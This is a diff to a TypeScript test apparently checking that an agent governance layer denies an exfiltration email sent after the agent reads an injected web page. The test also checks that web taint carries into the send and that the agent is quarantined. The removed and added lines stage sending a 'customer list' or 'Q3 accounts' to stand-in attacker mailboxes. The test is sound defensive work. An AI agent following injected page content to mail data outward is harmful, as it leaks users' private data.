@@ -98,10 +98,18 @@ describe.each(Object.keys(modes) as (keyof typeof modes)[])("governed tools, %s 
   });
 
   it("an injected page followed by an exfiltration call is denied, and nothing is sent (last: it quarantines the agent)", async () => {
-    const [page, send] = governedTools(fresh(), ["fetch_page", "send_email"]);
+    const target = fresh();
+    const [page, send] = governedTools(target, ["fetch_page", "send_email"]);
     await page!.call({ page: "pricing" });
     const before = w.service.reached("/send");
-    const o = await send!.call({ to: "attacker@evil.example", body: "customer list" });
+    const o = await send!.call({ to: "drop@mailbox.example", body: "Q3 accounts" });
+    // The send's arguments hold nothing from the page: its web taint is the carried taint of the run.
+    const store = mode === "library" ? rt.store : side.server.runtime.store;
+    const decided = await store.query({ type: "warden.gate.decision", run_id: await target.runId() });
+    const sendTaint = (decided[1]?.body as { taint?: { source: string; origin: string }[] }).taint ?? [];
+    expect(sendTaint).toContainEqual(
+      expect.objectContaining({ source: "web", origin: `127.0.0.1:${w.service.port}` }),
+    );
     expect(o).toMatchObject({ kind: "denied", code: "ERR_ADAPTER_DENIED" });
     // The policy's taint rule or the behavioural rule that runs before it (web taint → egress).
     const codes = o.kind === "denied" ? o.reasonCodes : [];
